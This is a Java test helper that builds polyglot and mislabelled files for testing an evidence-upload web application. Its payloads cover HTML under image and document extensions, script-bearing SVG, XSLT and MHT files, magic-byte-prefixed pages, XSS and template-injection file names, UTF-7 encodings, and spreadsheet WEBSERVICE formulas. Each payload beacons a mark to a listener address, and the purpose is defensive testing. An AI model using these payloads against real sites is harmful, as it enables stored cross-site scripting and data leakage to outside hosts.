package org.hecha.web.evidence;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * Files that are two things at once, or another thing than they are called, and each of them with a script that tells a listener
 * when it runs. Made anew for every test: no bytes are sent twice.
 */
final class Polyglots {

    /**
     * One file.
     *
     * @param mark     what its script tells
     * @param careless media type under which a browser runs it; empty where it takes more than a media type
     */
    record Polyglot(String name, byte[] bytes, String mark, String careless) {}

    private static final String HTML = "text/html";
    private static final String SCRIPT = "text/javascript";
    private static final String SVG = "image/svg+xml";
    private static final String XML = "application/xml";
    private static final String XHTML = "application/xhtml+xml";
    private static final String NONE = "";

    private final List<Polyglot> all = new ArrayList<>();
    private final String told;
    private final String stamp = Long.toString(System.nanoTime(), 36);
    private int count;

    /** @param told where scripts tell that they run: an address to which their mark is added */
    private Polyglots(String told) {
        this.told = told;
    }

    static List<Polyglot> all(String told) {
        var made = new Polyglots(told);
        made.pagesUnderOtherNames();
        made.drawings();
        made.xml();
        made.firstBytesBeforeAPage();
        made.scripts();
        made.mails();
        made.containers();
        made.names();
        made.encodings();
        new ActivePdfs(told).all().forEach((name, pdf) -> made.add("动态/" + name + ".pdf", NONE, pdf::with));
        return made.all;
    }

    private interface Making {
        byte[] with(String mark) throws IOException;
    }

    private void add(String name, String careless, Making making) {
        String mark = "p" + ++count + "x" + stamp;
        try {
            all.add(new Polyglot(name, making.with(mark), mark, careless));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Changes the title, asks the page's own server and another one; without quotes of the other kind, brackets and ampersands. */
    private String run(String mark) {
        return "document.title='ran " + mark + "';fetch('/ran/" + mark + "').catch(e=>0);(new Image).src='" + told
                + mark + "'";
    }

    private String script(String mark) {
        return "<script>" + run(mark) + "</script>";
    }

    private String page(String mark) {
        return "<!DOCTYPE html><html><head><title>words</title></head><body>words of a page " + script(mark)
                + "</body></html>";
    }

    private void pagesUnderOtherNames() {
        for (String ending : List.of(
                ".html", ".xhtml", ".shtml", ".txt", ".pdf", ".doc", ".docx", ".xlsx", ".wps", ".ofd", ".png", ".jpg",
                ".svg", ".xml", ".csv", ".zip", ".mp4", ".PDF", "")) {
            add("网页/页" + ending, HTML, mark -> latin(page(mark)));
        }
        add("网页/框.html", HTML, mark -> latin("<iframe srcdoc=\"" + script(mark) + "\"></iframe>"));
        add("网页/事.html", HTML, mark -> latin("<img src=x onerror=\"" + run(mark) + "\">"));
        add(
                "网页/转.html",
                NONE,
                mark -> latin("<meta http-equiv=refresh content=\"0;url=" + told + mark + "\"><p>words</p>"));
        add(
                "网页/链.html",
                NONE,
                mark -> latin("<base href=\"" + told + "\"><a href=\"javascript:" + run(mark) + "\">a</a>"));
    }

    private void drawings() {
        for (String ending : List.of(".svg", ".xml", ".png", ".txt", ".html", ".pdf")) {
            add(
                    "图/图" + ending,
                    SVG,
                    mark -> latin("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + run(mark)
                            + "</script><text>words</text></svg>"));
        }
        add("图/载.svg", SVG, mark -> latin("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + run(mark) + "\"/>"));
        add(
                "图/异.svg",
                SVG,
                mark -> latin("<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><body"
                        + " xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"" + run(mark)
                        + "\"/></body></foreignObject></svg>"));
        add(
                "图/动.svg",
                SVG,
                mark -> latin("<svg xmlns=\"http://www.w3.org/2000/svg\"><animate onbegin=\"" + run(mark)
                        + "\" attributeName=\"x\" dur=\"1s\"/></svg>"));
        add(
                "图/压.svgz",
                NONE,
                mark -> made(out -> {
                    try (var packed = new GZIPOutputStream(out)) {
                        packed.write(latin("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + run(mark) + "\"/>"));
                    }
                }));
    }

    private void xml() {
        for (String ending : List.of(".xhtml", ".xml", ".html", ".txt")) {
            add(
                    "标记/页" + ending,
                    XHTML,
                    mark -> latin("<?xml version=\"1.0\"?><html"
                            + " xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>words</title></head><body>"
                            + script(mark) + "</body></html>"));
        }
        add(
                "标记/数据.xml",
                XML,
                mark -> latin("<?xml version=\"1.0\"?><data><h:script" + " xmlns:h=\"http://www.w3.org/1999/xhtml\">"
                        + run(mark) + "</h:script></data>"));
        for (String ending : List.of(".xml", ".xsl")) {
            // the sheet of the styles is the document itself
            add(
                    "标记/样式" + ending,
                    NONE,
                    mark -> latin("<?xml version=\"1.0\"?><?xml-stylesheet href=\"#s\""
                            + " type=\"text/xsl\"?><xsl:stylesheet id=\"s\" version=\"1.0\""
                            + " xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><html>"
                            + script(mark) + "</html></xsl:template></xsl:stylesheet>"));
        }
        add(
                "标记/源.rss",
                XML,
                mark -> latin("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>words</title>"
                        + "<script xmlns=\"http://www.w3.org/1999/xhtml\">" + run(mark) + "</script></channel></rss>"));
    }

    /** What programs look at first says one thing, what follows is a page. */
    private void firstBytesBeforeAPage() {
        Map<String, String> heads = new LinkedHashMap<>();
        heads.put("gif", "GIF89a\u0001\u0000\u0001\u0000");
        heads.put("png", "\u0089PNG\r\n\u001A\n\u0000\u0000\u0000\rIHDR");
        heads.put("jpg", "\u00FF\u00D8\u00FF\u00E0\u0000\u0010JFIF\u0000");
        heads.put("pdf", "%PDF-1.4\n%\u00E2\u00E3\u00CF\u00D3\n1 0 obj<<>>endobj\n");
        heads.put("zip", "PK\u0003\u0004\u0014\u0000\u0000\u0000");
        heads.put("docx", "PK\u0003\u0004\u0014\u0000\u0006\u0000word/document.xml");
        heads.put("webp", "RIFF\u0024\u0000\u0000\u0000WEBPVP8 ");
        heads.put("bmp", "BM\u0036\u0000\u0000\u0000");
        heads.put("tif", "II*\u0000\u0008\u0000\u0000\u0000");
        heads.put("mp4", "\u0000\u0000\u0000\u0018ftypmp42");
        heads.put("7z", "7z\u00BC\u00AF\u0027\u001C");
        heads.put("gz", "\u001F\u008B\u0008\u0000");
        heads.put("doc", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1");
        heads.put("rtf", "{\\rtf1\\ansi ");
        heads.forEach((ending, head) -> {
            add("双面/文件." + ending, HTML, mark -> latin(head + page(mark)));
            if (List.of("gif", "jpg", "pdf", "zip", "doc").contains(ending)) {
                add("双面/" + ending + ".html", HTML, mark -> latin(head + page(mark)));
            }
        });
    }

    private void scripts() {
        for (String ending : List.of(".gif", ".js", ".png", ".txt")) {
            add("脚本/图" + ending, SCRIPT, mark -> latin("GIF89a/*" + "\u0000".repeat(20) + "*/=1;" + run(mark)));
        }
        add("脚本/图.bmp", SCRIPT, mark -> latin("BM/*\u0000\u0000*/=1;" + run(mark)));
        add("脚本/声.wav", SCRIPT, mark -> latin("RIFF/*\u0000WAVEfmt */=1;" + run(mark)));
        for (String ending : List.of(".js", ".mjs", ".json", ".csv", ".jsp", ".hta", ".vbs")) {
            add("脚本/文" + ending, SCRIPT, mark -> latin(run(mark) + "\n"));
        }
        add("脚本/式.css", NONE, mark -> latin("@import '" + told + mark + "';body{background:url(" + told + mark + ")}"));
        add("脚本/.htaccess", NONE, mark -> latin("AddType text/html .txt\nErrorDocument 404 " + told + mark + "\n"));
        add("脚本/web.config", NONE, mark -> latin("<configuration><!-- " + mark + " --></configuration>"));
        add("脚本/件.swf", NONE, mark -> latin("FWS\u0009" + mark));
        add("脚本/捷.url", NONE, mark -> latin("[InternetShortcut]\r\nURL=" + told + mark + "\r\n"));
        add("脚本/页.php", HTML, mark -> latin("<?php echo 1; ?>" + script(mark)));
    }

    private void mails() {
        for (String ending : List.of(".mht", ".mhtml", ".eml", ".doc", ".html")) {
            add(
                    "邮件/页" + ending,
                    NONE,
                    mark -> latin("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\""
                            + "\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: " + told + mark + "\r\n\r\n"
                            + page(mark)
                            + "\r\n--b--\r\n"));
        }
        add(
                "邮件/信.eml",
                NONE,
                mark -> latin("From: \"" + script(mark) + "\" <a@example.org>\r\nTo: b@example.org\r\nSubject: "
                        + script(mark) + "\r\nDate: Mon, 1 Aug 2022 08:00:00 +0800\r\nMIME-Version: 1.0\r\n"
                        + "Content-Type: text/html\r\n\r\n" + page(mark) + "\r\n"));
        add(
                "邮件/附.eml",
                NONE,
                mark -> latin("From: a@example.org\r\nSubject: words\r\nMIME-Version: 1.0\r\n"
                        + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nwords\r\n"
                        + "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\""
                        + "<img src=x onerror="
                        + run(mark) + ">.html\"\r\n\r\n" + page(mark) + "\r\n--b--\r\n"));
    }

    /** Honest containers with a dishonest inside. */
    private void containers() {
        add(
                "容器/页.zip",
                NONE,
                mark -> zip(Map.of("页.html", page(mark), "图.svg", "<svg onload=\"" + run(mark) + "\"/>")));
        add("容器/名.zip", NONE, mark -> zip(Map.of("<img src=x onerror=" + run(mark) + ">.txt", "words " + mark)));
        add("容器/图.jpg", NONE, mark -> join(picture("jpg"), zip(Map.of("页.html", page(mark)))));
        add("容器/前.zip", HTML, mark -> join(latin(page(mark)), zip(Map.of("a.txt", mark))));
        add("容器/注.jpg", NONE, mark -> {
            byte[] honest = picture("jpg");
            byte[] comment = latin(page(mark));
            return join(
                    new byte[] {
                        honest[0],
                        honest[1],
                        (byte) 0xFF,
                        (byte) 0xFE,
                        (byte) ((comment.length + 2) >> 8),
                        (byte) (comment.length + 2)
                    },
                    comment,
                    java.util.Arrays.copyOfRange(honest, 2, honest.length));
        });
        add("容器/尾.png", HTML, mark -> join(picture("png"), latin(page(mark))));
        add("容器/尾.gif", HTML, mark -> join(picture("gif"), latin(page(mark))));
        add("容器/文.docx", NONE, this::document);
        add("容器/表.xlsx", NONE, this::workbook);
        add("容器/宏.docm", NONE, this::document);
    }

    private byte[] document(String mark) {
        return made(out -> {
            try (var document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("words " + script(mark));
                document.getProperties().getCoreProperties().setTitle(script(mark));
                document.getProperties().getCoreProperties().setCreator("\"><img src=x onerror=" + run(mark) + ">");
                var part =
                        document.getPackage().createPart(PackagingURIHelper.createPartName("/word/afchunk.html"), HTML);
                document.getPackagePart()
                        .addRelationship(
                                part.getPartName(),
                                org.apache.poi.openxml4j.opc.TargetMode.INTERNAL,
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk",
                                "chunk");
                try (OutputStream inside = part.getOutputStream()) {
                    inside.write(latin(page(mark)));
                }
                document.getDocument().getBody().addNewAltChunk().setId("chunk");
                document.write(out);
            } catch (org.apache.poi.openxml4j.exceptions.InvalidFormatException e) {
                throw new IOException(e);
            }
        });
    }

    private byte[] workbook(String mark) {
        return made(out -> {
            try (var workbook = new XSSFWorkbook()) {
                var row = workbook.createSheet("<img src=x onerror=a>").createRow(0);
                row.createCell(0).setCellValue(script(mark));
                row.createCell(1).setCellFormula("HYPERLINK(\"" + told + mark + "\",\"words\")");
                row.createCell(2).setCellFormula("WEBSERVICE(\"" + told + mark + "\")");
                workbook.getProperties().getCoreProperties().setTitle(script(mark));
                workbook.write(out);
            }
        });
    }

    /** The name is what carries it. */
    private void names() {
        for (String before :
                List.of("<img src=x onerror=%s>", "\"><img src=x onerror=%s>", "';%s;'", "</title><svg onload=%s>")) {
            String mark = "p" + (count + 1) + "x" + stamp;
            add("名字/" + before.formatted(run(mark).replace('/', '\u2215')) + ".txt", NONE, m -> latin("words " + m));
        }
        for (String name : List.of(
                "{{constructor.constructor('document.title=1')()}}",
                "[[${T(java.lang.Runtime).getRuntime()}]]",
                "__${7*7}__::.x",
                "javascript:document.title='ran'")) {
            add("名字/" + name + ".txt", NONE, mark -> latin("words " + mark));
        }
    }

    private void encodings() {
        add("编码/七.html", NONE, mark -> latin("+ADw-script+AD4-" + run(mark) + "+ADw-/script+AD4-"));
        add("编码/十六.html", HTML, mark -> ("\uFEFF" + page(mark)).getBytes(StandardCharsets.UTF_16LE));
        add("编码/十六.txt", HTML, mark -> ("\uFEFF" + page(mark)).getBytes(StandardCharsets.UTF_16LE));
        add("编码/八.txt", HTML, mark -> ("\uFEFF" + page(mark)).getBytes(StandardCharsets.UTF_8));
        add("编码/国.txt", HTML, mark -> ("科普" + page(mark)).getBytes(Charset.forName("GB18030")));
        add("编码/零.html", HTML, mark -> latin("\u0000\u0000" + page(mark)));
    }

    static byte[] latin(String text) {
        return text.getBytes(
                text.chars().allMatch(c -> c < 256) ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8);
    }

    static byte[] join(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static byte[] zip(Map<String, String> entries) {
        return made(out -> {
            try (var zip = new ZipOutputStream(out, StandardCharsets.UTF_8)) {
                for (var entry : entries.entrySet()) {
                    zip.putNextEntry(new ZipEntry(entry.getKey()));
                    zip.write(latin(entry.getValue()));
                }
            }
        });
    }

    private static byte[] picture(String format) {
        return made(out -> ImageIO.write(new BufferedImage(20, 10, BufferedImage.TYPE_INT_RGB), format, out));
    }

    private interface Writing {
        void to(OutputStream out) throws IOException;
    }

    private static byte[] made(Writing writing) {
        var out = new ByteArrayOutputStream();
        try {
            writing.to(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
